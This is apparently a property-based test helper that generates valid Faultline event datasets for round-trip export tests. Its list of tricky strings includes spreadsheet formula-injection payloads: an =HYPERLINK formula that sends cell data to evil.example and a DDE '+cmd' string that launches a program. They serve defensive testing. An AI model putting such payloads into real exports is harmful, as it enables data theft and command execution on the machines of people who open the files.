/**
 * fast-check arbitraries of VALID Faultline datasets, already in the normal form the validator
 * returns (location always present, max only when above min, lists without duplicates), so an
 * import of an export can be compared with plain deep equality.
 */
import fc from 'fast-check';
import { parseIsoDate, spanOf } from '../../../src/lib/model/dates';
import type { Category, DatasetFile, EventRecord, Location, Source, Status } from '../../../src/lib/model/types';

/** Text that CSV, JSON and spreadsheets find hard: delimiters, quotes, newlines, formula triggers, RTL. */
const SPECIAL = [
  '=HYPERLINK("https://evil.example/?d="&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=already quoted",
  "''@twice",
  "'",
  'a,b',
  'a;b',
  'say "hi"',
  'line 1\nline 2',
  'line 1\r\nline 2',
  '[bracketed]',
  '["json"]',
  ' padded ',
  '\u202eRTL override',
  'zero\u200dwidth',
  '😀 emoji',
  'Ελληνικά',
  '日本語',
  '\ud800 lone surrogate',
  '&amp; <b>not html</b>',
];

/** Non-blank text, as the validator requires of every text field. */
export const text = (maxLength = 30): fc.Arbitrary<string> =>
  fc
    .oneof(
      fc.constantFrom(...SPECIAL),
      fc.string({ unit: 'binary', minLength: 1, maxLength }),
      fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength }),
      fc.tuple(fc.constantFrom(...SPECIAL), fc.string({ maxLength: 8 })).map(([a, b]) => a + b),
    )
    .filter((s) => /\S/.test(s));

const pad = (n: number, w = 2): string => String(n).padStart(w, '0');
const daysIn = (y: number, m: number): number =>
  m === 2 ? (y % 4 === 0 && (y % 100 !== 0 || y % 400 === 0) ? 29 : 28) : [4, 6, 9, 11].includes(m) ? 30 : 31;

const offset = fc.oneof(
  fc.constant('Z'),
  fc
    .tuple(fc.constantFrom('+', '-'), fc.integer({ min: 0, max: 14 }), fc.constantFrom(0, 15, 30, 45))
    .filter(([, h, m]) => h < 14 || m === 0)
    .map(([s, h, m]) => `${s}${pad(h)}:${pad(m)}`),
);

/** A valid date string of any precision: year, month, day, minute or second (with a fraction). */
export const isoDate: fc.Arbitrary<string> = fc
  .record({
    y: fc.integer({ min: 0, max: 9999 }),
    m: fc.integer({ min: 1, max: 12 }),
    d: fc.integer({ min: 1, max: 31 }),
    hh: fc.integer({ min: 0, max: 23 }),
    mm: fc.integer({ min: 0, max: 59 }),
    ss: fc.integer({ min: 0, max: 59 }),
    ms: fc.constantFrom('', '.5', '.25', '.125'),
    precision: fc.constantFrom('year', 'month', 'day', 'minute', 'second'),
    tz: offset,
  })
  .map(({ y, m, d, hh, mm, ss, ms, precision, tz }) => {
    const day = `${pad(y, 4)}-${pad(m)}-${pad(Math.min(d, daysIn(y, m)))}`;
    if (precision === 'year') return pad(y, 4);
    if (precision === 'month') return `${pad(y, 4)}-${pad(m)}`;
    if (precision === 'day') return day;
    return `${day}T${pad(hh)}:${pad(mm)}${precision === 'second' ? `:${pad(ss)}${ms}` : ''}${tz}`;
  });

const startOf = (date: string): number => {
  const parsed = parseIsoDate(date);
  if (!parsed.ok) throw new Error(`generated an invalid date ${date}`);
  return spanOf(parsed.value).start;
};

const coordinate = (limit: number): fc.Arbitrary<number> =>
  fc
    .oneof(
      fc.double({ min: -limit, max: limit, noNaN: true }),
      fc.integer({ min: -limit, max: limit }),
      fc.constantFrom(limit, -limit, 12.5, -12.5),
    )
    .map((v) => (v === 0 ? 0 : v));

const list = fc.uniqueArray(text(20), { minLength: 1, maxLength: 3 });

const location: fc.Arbitrary<Location | null> = fc.option(
  fc.record(
    {
      name: text(),
      lat: coordinate(90),
      lon: coordinate(180),
      precision: fc.constantFrom('site', 'city', 'region', 'country'),
      note: text(),
      aliases: list,
    },
    { requiredKeys: ['name', 'lat', 'lon', 'precision'] },
  ),
  { nil: null },
);

const status: fc.Arbitrary<Status> = fc.oneof(
  fc.record({ kind: fc.constant('confirmed' as const), by: list, note: text() }, { requiredKeys: ['kind'] }),
  fc.record(
    { kind: fc.constantFrom('claimed' as const, 'disputed' as const), by: list, note: text() },
    { requiredKeys: ['kind', 'by'] },
  ),
);

const source: fc.Arbitrary<Source> = fc.record(
  {
    publisher: text(),
    title: text(),
    url: fc.webUrl({ validSchemes: ['https'] }),
    date: isoDate,
    author: text(),
    quote: text(60),
  },
  { requiredKeys: ['publisher', 'title', 'url'] },
);

const idArb = fc.stringMatching(/^[A-Za-z0-9][A-Za-z0-9._:-]{0,15}$/);

/** One event's fields except id, category and related, which depend on the rest of the dataset. */
const body = fc.record(
  {
    title: text(),
    summary: text(80),
    dates: fc.tuple(isoDate, fc.option(isoDate, { nil: undefined })),
    approximate: fc.constant(true as const),
    actors: list,
    tags: list,
    location,
    status,
    fatalities: fc.tuple(
      fc.nat(100_000),
      fc.option(fc.integer({ min: 1, max: 1000 }), { nil: undefined }),
      fc.option(text(), { nil: undefined }),
    ),
    sources: fc.array(source, { minLength: 1, maxLength: 3 }),
  },
  { requiredKeys: ['title', 'summary', 'dates', 'location', 'sources'] },
);

export const dataset: fc.Arbitrary<DatasetFile> = fc
  .record({
    categories: fc.uniqueArray(
      fc.record(
        { id: idArb, label: text(), color: fc.stringMatching(/^#[0-9a-f]{6}$/), description: text() },
        { requiredKeys: ['id', 'label', 'color'] },
      ),
      { minLength: 1, maxLength: 4, selector: (c) => c.id },
    ),
    ids: fc.uniqueArray(idArb, { minLength: 1, maxLength: 8 }),
    meta: fc.record(
      { title: text(), description: text(), license: fc.constantFrom('CC BY 4.0', 'MIT'), updated: isoDate },
      { requiredKeys: ['title'] },
    ),
  })
  .chain(({ categories, ids, meta }) =>
    fc
      .tuple(
        ...ids.map((id) =>
          fc
            .tuple(
              body,
              fc.constantFrom(...categories.map((c: Category) => c.id)),
              fc.subarray(ids.filter((other) => other !== id)),
            )
            .map(([b, category, related]) => toEvent(id, category, related, b)),
        ),
      )
      .map((events) => ({
        format: 'faultline/1' as const,
        title: meta.title,
        description: meta.description ?? '',
        license: meta.license ?? '',
        updated: meta.updated ?? '',
        categories,
        events,
      })),
  );

type Body = typeof body extends fc.Arbitrary<infer T> ? T : never;

function toEvent(id: string, category: string, related: string[], b: Body): EventRecord {
  let [date, end] = b.dates;
  if (end !== undefined && startOf(end) < startOf(date)) [date, end] = [end, date];
  const event: EventRecord = { id, title: b.title, summary: b.summary, date, category, sources: b.sources };
  if (end !== undefined) event.end = end;
  if (b.approximate) event.approximate = true;
  if (b.actors) event.actors = b.actors;
  if (b.tags) event.tags = b.tags;
  event.location = b.location;
  if (b.status) event.status = b.status;
  if (b.fatalities) {
    const [min, extra, by] = b.fatalities;
    event.fatalities = {
      min,
      ...(extra !== undefined ? { max: min + extra } : {}),
      ...(by !== undefined ? { by } : {}),
    };
  }
  if (related.length) event.related = related;
  return event;
}
